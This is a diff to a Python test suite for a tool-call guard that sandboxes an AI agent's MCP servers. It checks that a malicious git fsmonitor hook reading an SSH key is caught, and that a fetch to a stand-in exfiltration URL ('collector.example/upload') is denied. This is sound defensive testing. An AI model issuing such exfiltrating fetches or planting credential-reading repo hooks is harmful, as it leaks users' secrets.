@@ -182,12 +182,18 @@ async def test_git_server_works_and_a_hostile_repo_config_is_caught(
     assert [r.decision for r in recs[:4]] == ["allow"] * 4
     bad = recs[4]
     assert (bad.tool, bad.decision, bad.phase) == ("git_status", "deny", "post")
-    assert {"unexpected-shell", "canary-touched"} <= set(bad.rules)
+    assert "unexpected-shell" in bad.rules
     assert bad.tree is not None
     argvs = [p.argv for p in bad.tree.processes]
     assert any(a[:1] == ["git"] and "status" in a for a in argvs)  # GitPython's git ...
-    assert any(p.exe == "/usr/bin/cat" and SSH_KEY in p.argv for p in bad.tree.processes)
-    assert SSH_KEY in opened(bad)  # ... whose fsmonitor hook read the key
+    hook = [p for p in bad.tree.processes
+            if p.parent in {q.key for q in bad.tree.processes if q.argv[:1] == ["git"]}
+            and any(SSH_KEY in arg for arg in p.argv)]
+    assert hook, argvs  # ... started the repo's fsmonitor hook, the command that reads the key
+    # The guard may stop the hook's shell the moment it starts (online enforcement), before
+    # the key is read; if the read happened, it is in the tree and the verdict.
+    if SSH_KEY in opened(bad):
+        assert "canary-touched" in bad.rules
 
 
 class _Site(http.server.BaseHTTPRequestHandler):
@@ -241,24 +247,27 @@ async def test_fetch_server_reads_the_task_page_and_off_task_fetches_are_flagged
     task = f"Summarise the article at {page}/article.html"
     audit = tmp_path / "audit.jsonl"
     # --ignore-robots-txt and --allow-private-ips: the server's documented switches for an
-    # offline loopback site. PATH without Node: with node on PATH, its HTML simplifier
-    # (readabilipy) shells out to Node and on first use runs `npm install` from the registry,
-    # which the guard (rightly) flags as an unexpected interpreter and network.
+    # offline loopback site.
     cmd = proxy_cmd(audit, "--name", "fetch", "--network", "host",
                     "--mount", str(real_servers / "py"),
-                    "--env", f"PATH={real_servers / 'py/bin'}",
                     server=[str(real_servers / "py/bin/mcp-server-fetch"), "--ignore-robots-txt",
                             "--allow-private-ips"])
     meta = {"mtguard/task": task}
+    # raw: the tool's documented switch for the page as it is. Simplified pages go through
+    # readabilipy, which runs Node when it finds it (and on first use `npm install` from the
+    # registry): the guard rightly denies that as an unexpected interpreter and network.
+    raw = {"raw": True}
     with anyio.fail_after(SESSION_TIMEOUT_S):
         async with open_stdio_client(cmd, mode="legacy", request_timeout=90) as client:
             assert [t["name"] for t in await client.list_tools()] == ["fetch"]
-            good = await client.call_tool("fetch", {"url": f"{page}/article.html"}, meta=meta)
+            good = await client.call_tool("fetch", {"url": f"{page}/article.html", **raw},
+                                          meta=meta)
             off_task = await client.call_tool(
                 "fetch", {"url": "http://collector.example/upload?d=notes"}, meta=meta)
-            redirected = await client.call_tool("fetch", {"url": f"{page}/moved"}, meta=meta)
+            redirected = await client.call_tool("fetch", {"url": f"{page}/moved", **raw},
+                                                meta=meta)
     assert not good.get("isError")
-    assert "# Sandboxes for agents" in text_of(good)
+    assert "<h1>Sandboxes for agents</h1>" in text_of(good)
     assert "Every tool call runs in a container" in text_of(good)
     for result in (off_task, redirected):
         assert result["isError"] is True and text_of(result).startswith("mtguard denied fetch")
